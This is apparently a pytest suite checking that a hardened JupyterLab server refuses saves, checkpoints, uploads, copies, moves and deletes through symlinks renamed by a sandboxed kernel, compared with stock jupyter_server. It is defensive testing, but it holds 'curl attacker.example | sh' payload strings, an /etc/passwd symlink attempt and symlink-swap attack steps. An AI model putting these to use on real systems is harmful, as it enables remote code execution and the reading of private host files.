"""JupyterLab's saves and checkpoints must not write or read through a link a sandbox moved.

End to end: a real sandboxed kernel (bwrap) in a folder of a real ``jupyter
lab`` server gives links the user left in its workspace new names (it
cannot create one: seccomp), and the file browser's and editor's own
requests (PUT and POST of ``/api/contents``) then save, upload and
checkpoint. The control server has jupyter_server's own behaviour (no
``lab_content_policy.apply``, so no ``sandbox_kernel.lab_saves``): there each
attack writes the sandbox's bytes into a host file outside the workspace,
writes into a host folder, or copies a host file into the workspace, where
the sandbox reads it.

Kept out of tests/browser: nothing here needs a browser, only the same server.
"""

from __future__ import annotations

import base64
import json
import os
import urllib.error
import urllib.parse
from collections.abc import Iterator
from typing import Any

import pytest
from browser.lab_helpers import LabServer, guarded_and_control, notebook_json
from kernel_helpers import SandboxKernelHandle, require_bwrap, shared_data_kernel

pytestmark = pytest.mark.timeout(300)

PLANTED = b"curl attacker.example/x | sh  # the sandbox's bytes\n"
USERS = "echo the user's own script\n"
SECRET = "the user's private notes, never mounted in the sandbox\n"

#: the cell: each folder's attack, with only rename(2) on links the user made
MOVES = f"""
import os
os.chdir('/workspace')
# a: the user's link, named as the save's backup; the notebook's bytes the sandbox's
os.rename('a/startup.sh', 'a/.~nb.ipynb')
open('a/nb.ipynb', 'wb').write({PLANTED!r})
# b: the user's link, named as the open notebook
os.rename('b/nb.ipynb', 'b/old.ipynb')
os.rename('b/startup.sh', 'b/nb.ipynb')
# c: the user's link to a folder, named as the checkpoints' folder
os.rename('c/data', 'c/.ipynb_checkpoints')
# d: the user's link to a private file, named as the notebook Lab checkpoints
os.rename('d/nb.ipynb', 'd/old.ipynb')
os.rename('d/notes.md', 'd/nb.ipynb')
# f: the user's link to a private file, named as a file the user duplicates
os.rename('f/notes.md', 'f/results.csv')
# g: the user's link to a host folder, named as a folder the user moves a file into
open('g/payload.sh', 'w').write('curl attacker.example | sh\\n')
os.rename('g/data', 'g/archive')
# h: the user's link to a private file, moved into a folder the user duplicates
os.rename('h/notes.md', 'h/proj/notes.md')
# i: the user's link to a host folder, named as the checkpoint a notebook's rename moves its own to
os.mkdir('i/.ipynb_checkpoints')
open('i/.ipynb_checkpoints/nb-checkpoint.ipynb', 'w').write({PLANTED.decode()!r})
os.rename('i/data', 'i/.ipynb_checkpoints/analysis-checkpoint.ipynb')
# j: a folder where the checkpoint Lab restores is
os.makedirs('j/.ipynb_checkpoints/nb-checkpoint.ipynb')
# k: the user's link to a host folder, named as the folder whose old.csv the user deletes
os.rename('k/results', 'k/results-moved')
os.rename('k/data', 'k/results')
print('moved')
"""


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, LabServer]]:
    require_bwrap()
    with guarded_and_control(tmp_path_factory.mktemp("lab-saves")) as servers:
        yield servers


def _api(server: LabServer, method: str, path: str, body: dict[str, Any] | None = None) -> tuple[int, Any]:
    """200 and the answer, or the error's status and message, of a contents request as Lab sends it."""
    try:
        return 200, server.request(method, "/api/contents/" + urllib.parse.quote(path), body)
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read() or b"{}").get("message", "")


def _save(server: LabServer, path: str, text: str) -> tuple[int, Any]:
    model = {"type": "notebook", "format": "json", "content": notebook_json([text])}
    return _api(server, "PUT", path, model)


class Layout:
    """One workspace with a folder per attack, the user's links in it, and
    the host files and folder they point to outside the server's root."""

    def __init__(self, server: LabServer, name: str) -> None:
        self.workspace = server.notebooks / name
        self.outside = server.root / f"outside-{name}"
        (self.outside / "folder").mkdir(parents=True)
        for script in ("a.sh", "b.sh"):
            (self.outside / script).write_text(USERS)
        (self.outside / "notes.md").write_text(SECRET)
        for name in ("g-folder", "i-folder", "k-folder", "l-folder"):
            (self.outside / name).mkdir()
        (self.outside / "k-folder" / "old.csv").write_text(SECRET)
        (self.outside / "l-folder" / "nb.ipynb").write_text(json.dumps(notebook_json(["1"])))
        for folder in "abcdefghijkl":
            (self.workspace / folder).mkdir(parents=True)
            if folder in "abcdij":
                (self.workspace / folder / "nb.ipynb").write_text(json.dumps(notebook_json(["1"])))
        (self.workspace / "a" / "startup.sh").symlink_to(self.outside / "a.sh")
        (self.workspace / "b" / "startup.sh").symlink_to(self.outside / "b.sh")
        (self.workspace / "c" / "data").symlink_to(self.outside / "folder", target_is_directory=True)
        (self.workspace / "d" / "notes.md").symlink_to(self.outside / "notes.md")
        (self.workspace / "e" / "data").symlink_to(self.outside / "folder", target_is_directory=True)
        (self.workspace / "f" / "notes.md").symlink_to(self.outside / "notes.md")
        (self.workspace / "g" / "data").symlink_to(self.outside / "g-folder", target_is_directory=True)
        (self.workspace / "h" / "proj").mkdir()
        (self.workspace / "h" / "proj" / "table.csv").write_text("a,b\n")
        (self.workspace / "h" / "notes.md").symlink_to(self.outside / "notes.md")
        (self.workspace / "i" / "data").symlink_to(self.outside / "i-folder", target_is_directory=True)
        (self.workspace / "k" / "results").mkdir()
        (self.workspace / "k" / "results" / "old.csv").write_text("the sandbox's old results\n")
        (self.workspace / "k" / "data").symlink_to(self.outside / "k-folder", target_is_directory=True)
        (self.workspace / "l" / "data").symlink_to(self.outside / "l-folder", target_is_directory=True)

    def kernel(self, server: LabServer) -> SandboxKernelHandle:
        return shared_data_kernel(self.workspace, server.root / "kernels" / self.workspace.name, server.data_dir)


@pytest.fixture(scope="module")
def attacked(servers: dict[str, LabServer]) -> Iterator[dict[str, tuple[Layout, SandboxKernelHandle]]]:
    """Each server's workspace once its sandbox moved the user's links; the kernel kept running."""
    out: dict[str, tuple[Layout, SandboxKernelHandle]] = {}
    try:
        for which, server in servers.items():
            layout = Layout(server, "work")
            kernel = layout.kernel(server)
            out[which] = (layout, kernel)
            run = kernel.run(MOVES)
            assert run.status == "ok" and run.stdout.strip() == "moved", (run.stderr, run.errors)
            # (the sandbox could not have made the links itself)
            denied = kernel.run("import os\nos.symlink('/etc/passwd', '/workspace/mine')")
            assert denied.status == "error", denied.stdout
        yield out
    finally:
        for _, kernel in out.values():
            kernel.shutdown()


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_a_link_named_as_the_saves_backup_gets_nothing(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
) -> None:
    server, (layout, _) = servers[which], attacked[which]
    os.chmod(layout.workspace / "a" / "nb.ipynb", 0o640)  # (the user's; kept by the save)
    status, _ = _save(server, "work/a/nb.ipynb", "print('saved by the user')")
    assert status == 200
    saved = (layout.workspace / "a" / "nb.ipynb").read_text()
    assert "saved by the user" in saved
    if which == "control":  # jupyter_server copied the old bytes through the link
        assert (layout.outside / "a.sh").read_bytes() == PLANTED
        return
    assert (layout.outside / "a.sh").read_text() == USERS
    assert os.readlink(layout.workspace / "a" / ".~nb.ipynb") == str(layout.outside / "a.sh")
    assert oct(os.stat(layout.workspace / "a" / "nb.ipynb").st_mode & 0o777) == oct(0o640)
    assert not [p.name for p in (layout.workspace / "a").iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_a_link_named_as_the_notebook_is_not_written_through(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
) -> None:
    server, (layout, _) = servers[which], attacked[which]
    status, message = _save(server, "work/b/nb.ipynb", "print('saved by the user')")
    if which == "control":
        assert status == 200 and "saved by the user" in (layout.outside / "b.sh").read_text()
        return
    assert status == 403
    assert "work/b/nb.ipynb is a symbolic link" in message and "writes nothing through a link" in message
    assert (layout.outside / "b.sh").read_text() == USERS
    assert (layout.workspace / "b" / "nb.ipynb").is_symlink()


@pytest.mark.parametrize("which", ["guarded", "control"])
@pytest.mark.parametrize(
    ("notebook", "folder", "control_writes", "link", "guarded_leaves"),
    [
        # the user's link to a folder, named as the checkpoints' folder
        ("work/c/nb.ipynb", "folder", ["nb-checkpoint.ipynb"], "work/c/.ipynb_checkpoints", []),
        # a notebook inside the user's linked folder: its checkpoints' folder would be made there
        ("work/l/data/nb.ipynb", "l-folder", [".ipynb_checkpoints", "nb.ipynb"], "work/l/data", ["nb.ipynb"]),
    ],
    ids=["checkpoint-folder", "linked-folder"],
)
def test_a_checkpoint_writes_and_makes_nothing_through_a_link(
    servers: dict[str, LabServer],
    attacked: dict[str, tuple[Layout, SandboxKernelHandle]],
    which: str,
    notebook: str,
    folder: str,
    control_writes: list[str],
    link: str,
    guarded_leaves: list[str],
) -> None:
    server, (layout, _) = servers[which], attacked[which]
    status, message = _api(server, "POST", f"{notebook}/checkpoints")
    written = sorted(p.name for p in (layout.outside / folder).iterdir())
    if which == "control":
        assert status == 200 and written == control_writes, (status, message, written)
        return
    assert status == 403 and f"{link} is a symbolic link" in message, message
    assert written == guarded_leaves


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_a_checkpoint_copies_no_linked_host_file_into_the_workspace(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
) -> None:
    server, (_, kernel) = servers[which], attacked[which]
    status, message = _api(server, "POST", "work/d/nb.ipynb/checkpoints")
    read = kernel.run(
        "import os\np = '/workspace/d/.ipynb_checkpoints/nb-checkpoint.ipynb'\n"
        "print(open(p).read() if os.path.exists(p) else 'no checkpoint')"
    )
    assert read.status == "ok", read.stderr
    if which == "control":  # the sandbox reads the host file it could not see
        assert status == 200 and read.stdout.strip() == SECRET.strip()
        return
    assert status == 403 and "work/d/nb.ipynb is a symbolic link" in message, message
    assert read.stdout.strip() == "no checkpoint"


def test_nothing_is_written_through_a_link_to_a_folder(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]]
) -> None:
    # a folder link anywhere below the root (here the user's own, left where
    # it was: the sandbox could give it the name of a folder Lab has open)
    server, (layout, _) = servers["guarded"], attacked["guarded"]
    status, message = _save(server, "work/e/data/new.ipynb", "1")
    assert status == 403 and "work/e/data is a symbolic link" in message, message
    assert list((layout.outside / "folder").iterdir()) == []
    # reading through it stays: it shows the user what the user linked
    (layout.outside / "folder" / "seen.txt").write_text("linked")
    status, model = _api(server, "GET", "work/e/data/seen.txt")
    assert status == 200 and model["content"] == "linked"
    (layout.outside / "folder" / "seen.txt").unlink()


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_an_upload_in_chunks_appends_through_no_link(servers: dict[str, LabServer], which: str) -> None:
    """Lab uploads a large file in chunks: the first saved, the others appended."""
    server = servers[which]
    layout = Layout(server, f"upload-{which}")
    kernel = layout.kernel(server)
    try:

        def chunk(number: int, data: bytes) -> tuple[int, Any]:
            model = {"type": "file", "format": "base64", "chunk": number, "content": base64.b64encode(data).decode()}
            return _api(server, "PUT", f"upload-{which}/a/big.bin", model)

        assert chunk(1, b"first ")[0] == 200
        run = kernel.run(
            "import os\nos.rename('/workspace/a/big.bin', '/workspace/a/x')\n"
            "os.rename('/workspace/a/startup.sh', '/workspace/a/big.bin')"
        )
        assert run.status == "ok", run.stderr
        status, message = chunk(-1, b"last\n")
    finally:
        kernel.shutdown()
    if which == "control":
        assert status == 200 and (layout.outside / "a.sh").read_text() == USERS + "last\n"
        return
    assert status == 403 and "big.bin is a symbolic link" in message, message
    assert (layout.outside / "a.sh").read_text() == USERS


def test_saves_and_checkpoints_of_real_files_work_as_before(servers: dict[str, LabServer]) -> None:
    server = servers["guarded"]
    assert _api(server, "PUT", "plain", {"type": "directory"})[0] == 200
    assert _save(server, "plain/nb.ipynb", "print('one')")[0] == 200
    status, checkpoint = _api(server, "POST", "plain/nb.ipynb/checkpoints")
    assert status == 200 and checkpoint["id"] == "checkpoint", checkpoint
    assert _save(server, "plain/nb.ipynb", "print('two')")[0] == 200
    assert "print('two')" in (server.notebooks / "plain" / "nb.ipynb").read_text()
    assert _api(server, "POST", "plain/nb.ipynb/checkpoints/checkpoint")[0] == 200  # restore
    assert "print('one')" in (server.notebooks / "plain" / "nb.ipynb").read_text()
    status, _ = _api(server, "PUT", "plain/notes.txt", {"type": "file", "format": "text", "content": "héllo"})
    assert status == 200 and (server.notebooks / "plain" / "notes.txt").read_text() == "héllo"
    assert not [p.name for p in (server.notebooks / "plain").iterdir() if p.name.startswith(".~")]


def _sandbox_reads(kernel: SandboxKernelHandle, path: str) -> str:
    run = kernel.run(f"import os\np = {path!r}\nprint(open(p).read() if os.path.isfile(p) else 'nothing there')")
    assert run.status == "ok", run.stderr
    return run.stdout.strip()


@pytest.mark.parametrize("which", ["guarded", "control"])
@pytest.mark.parametrize(
    ("source", "copy", "link"),
    [
        # a file: the user's link, named as a file the user duplicates
        ("work/f/results.csv", "/workspace/f/results-Copy1.csv", "work/f/results.csv"),
        # a folder: the user's link, moved into a folder the user duplicates
        ("work/h/proj", "/workspace/h/proj-Copy1/notes.md", "proj/notes.md"),
    ],
    ids=["file", "folder"],
)
def test_duplicating_copies_no_linked_host_file_into_the_workspace(
    servers: dict[str, LabServer],
    attacked: dict[str, tuple[Layout, SandboxKernelHandle]],
    which: str,
    source: str,
    copy: str,
    link: str,
) -> None:
    server, (_, kernel) = servers[which], attacked[which]
    status, message = _api(server, "POST", os.path.dirname(source), {"copy_from": source})
    seen = _sandbox_reads(kernel, copy)
    if which == "control":  # the sandbox reads the host file it could not see
        assert status == 200 and seen == SECRET.strip()
        return
    assert status == 403 and f"{link} is a symbolic link" in message, message
    assert seen == "nothing there"


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_a_move_or_a_new_folder_goes_through_no_linked_folder(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
) -> None:
    server, (layout, _) = servers[which], attacked[which]
    moved = _api(server, "PATCH", "work/g/payload.sh", {"path": "work/g/archive/payload.sh"})
    made = _api(server, "PUT", "work/g/archive/new", {"type": "directory"})
    outside = sorted(p.name for p in (layout.outside / "g-folder").iterdir())
    if which == "control":  # the sandbox's script and a new folder land outside the workspace
        assert moved[0] == 200 and made[0] == 200 and outside == ["new", "payload.sh"], (moved, made, outside)
        return
    for status, message in (moved, made):
        assert status == 403 and "work/g/archive is a symbolic link" in message, message
    assert outside == [] and (layout.workspace / "g" / "payload.sh").is_file()
    # a move that goes through no link still works, and so does a new folder
    assert _api(server, "PUT", "work/g/kept", {"type": "directory"})[0] == 200
    assert _api(server, "PATCH", "work/g/payload.sh", {"path": "work/g/kept/payload.sh"})[0] == 200
    assert (layout.workspace / "g" / "kept" / "payload.sh").is_file()


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_a_notebooks_rename_moves_no_checkpoint_into_a_linked_folder(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
) -> None:
    server, (layout, _) = servers[which], attacked[which]
    status, message = _api(server, "PATCH", "work/i/nb.ipynb", {"path": "work/i/analysis.ipynb"})
    outside = sorted(p.name for p in (layout.outside / "i-folder").iterdir())
    if which == "control":  # the sandbox's checkpoint is moved into the host folder
        assert outside == ["nb-checkpoint.ipynb"], (status, message, outside)
        return
    assert status == 409 and "analysis-checkpoint.ipynb already exists" in message, message
    assert outside == []


def test_a_folder_where_a_checkpoint_is_gets_a_clear_answer_and_keeps_nothing_open(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]]
) -> None:
    server = servers["guarded"]
    fds = lambda: len(os.listdir(f"/proc/{server.proc.pid}/fd"))  # noqa: E731
    before = fds()
    for _ in range(40):
        status, message = _api(server, "POST", "work/j/nb.ipynb/checkpoints/checkpoint")
        assert status == 400 and "nb-checkpoint.ipynb is not a file" in message, (status, message)
    assert fds() < before + 10, (before, fds())


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_a_delete_goes_to_the_trash_through_no_linked_folder(
    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
) -> None:
    server, (layout, _) = servers[which], attacked[which]
    trashed = server.root / "xdg-data" / "Trash" / "files"
    status, message = _api(server, "DELETE", "work/k/results/old.csv")
    if which == "control":  # jupyter_server's send2trash took the user's host file
        assert status == 200 and not (layout.outside / "k-folder" / "old.csv").exists()
        assert (trashed / "old.csv").read_text() == SECRET
        return
    assert status == 403 and "work/k/results is a symbolic link" in message, message
    assert (layout.outside / "k-folder" / "old.csv").read_text() == SECRET
    # a delete through no link goes to the trash as before, restorable from its record
    status, _ = _api(server, "DELETE", "work/k/results-moved/old.csv")
    assert status == 200 and not (layout.workspace / "k" / "results-moved" / "old.csv").exists()
    assert (trashed / "old.csv").read_text() == "the sandbox's old results\n"
    record = (server.root / "xdg-data" / "Trash" / "info" / "old.csv.trashinfo").read_text()
    assert f"Path={layout.workspace.resolve()}/k/results-moved/old.csv" in record, record
    # and a folder, with the link in it (the link goes, not its target)
    status, _ = _api(server, "DELETE", "work/k")
    assert status == 200 and not (layout.workspace / "k").exists()
    assert (trashed / "k" / "results").is_symlink()
    assert (layout.outside / "k-folder" / "old.csv").read_text() == SECRET


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_no_language_server_bridge_runs_over_the_workspace(servers: dict[str, LabServer], which: str) -> None:
    """jupyter_lsp starts any installed language server on the host, over
    the folders sandboxes write, and those read their configuration there
    (pylint's ``load-plugins`` imports what it names): it is off."""
    server = servers[which]
    try:
        server.request("GET", "/lsp/status")
        status = 200
    except urllib.error.HTTPError as exc:
        status = exc.code
    assert status == (200 if which == "control" else 404)


@pytest.mark.parametrize("which", ["guarded", "control"])
def test_an_unreadable_notebook_is_not_replaced_by_a_backup_a_sandbox_wrote(
    servers: dict[str, LabServer], which: str
) -> None:
    """jupyter_server renames, by path, an unreadable notebook aside and its
    ``.~`` backup into its place when it opens it; the saves here make no
    such backup, so only a sandbox wrote one (and a path-based rename
    crosses a link a sandbox moves meanwhile): the notebook is reported
    unreadable instead."""
    server = servers[which]
    folder = server.notebooks / f"recover-{which}"
    folder.mkdir()
    (folder / "nb.ipynb").write_text("{not json")
    (folder / ".~nb.ipynb").write_text(json.dumps(notebook_json(["print('the sandbox')"])))
    status, message = _api(server, "GET", f"recover-{which}/nb.ipynb")
    if which == "control":
        assert status == 200 and "the sandbox" in (folder / "nb.ipynb").read_text()
        return
    assert status == 400 and "its .~ backup is not restored" in message, message
    assert (folder / "nb.ipynb").read_text() == "{not json" and (folder / ".~nb.ipynb").exists()
